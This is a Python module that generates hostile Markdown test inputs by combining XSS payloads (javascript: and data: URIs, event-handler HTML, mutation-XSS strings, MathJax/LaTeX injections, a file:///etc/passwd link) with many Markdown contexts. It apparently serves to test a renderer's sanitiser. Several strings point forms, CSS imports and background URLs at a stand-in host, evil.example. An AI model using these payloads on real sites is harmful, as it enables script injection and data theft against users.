"""Hostile Markdown: the tricks that need no HTML of their own, combined."""

from collections.abc import Iterator
from itertools import product

SCRIPTS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example/x",
    'https://evil.example/"onmouseover=alert(1)',
    "x' onerror='alert(1)",
    'x" onfocus="alert(1)" autofocus="',
)
PLACES = (
    "[click]({})",
    "[click](<{}>)",
    "![look]({})",
    "![look](<{}>)",
    "[click][r]\n\n[r]: {}",
    "[click][r]\n\n[r]: <{}> 'title'",
    "<{}>",
    "[![look]({})](/x)",
    '[a](/x "{}")',
    "![{}](/x)",
    "[^1]\n\n[^1]: [n]({})",
    "| a |\n|---|\n| [c]({}) |",
    "Term\n: [d]({})",
    "## [h]({})",
    "::: note {}\ntext\n:::",
    '::: figure picture.svg "{}"\ncaption\n:::',
    "::: clip some-clip from={}\ncaption\n:::",
    "::: check some-check\nQ\n- [x] {}\n  > f\n- [ ] b\n  > f\n:::",
    "::: sort some-sort codes=aa,bb\n- {} {{aa}}\n  > f\n:::",
    "```{}\ncode\n```",
)
ELEMENTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "</p><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>@import '//evil.example/x'</style>",
    "<form action=//evil.example><input name=x></form>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<div style='background:url(//evil.example)'>x</div>",
    "<a id=x name=x href=# onclick=alert(1)>x</a>",
)
FORMULAS = (
    r"\text{<img/src=x/onerror=alert(1)>}",
    r"\text{</math><script>alert(1)</script>}",
    r"\operatorname{<svg onload=alert(1)>}",
    r"\tag{<img src=x onerror=alert(1)>}",
    r"\href{javascript:alert(1)}{x}",
    r"\color{red;background:url(//evil.example)}x",
    r"\style{background:url(//evil.example)}{x}",
    r"\class{x onclick=alert(1)}{x}",
    r"\label{\"onclick=alert(1)}x",
    r"\newcommand{\a}{\a\a}\a",
    r"\unicode{<}script\unicode{>}",
    r"a<b>c</math><img src=x onerror=alert(1)>",
)


def native_payloads() -> Iterator[str]:
    """Return every script in every place, every element in every context, every formula."""
    for place, script in product(PLACES, SCRIPTS):
        yield place.format(script)
    for place, element in product(("{}", "a {} b", "- {}", "> {}", "## {}", "`{}`"), ELEMENTS):
        yield place.format(element)
    for place, formula in product(("${}$", "$$\n{}\n$$", "| a |\n|---|\n| ${}$ |"), FORMULAS):
        yield place.format(formula)
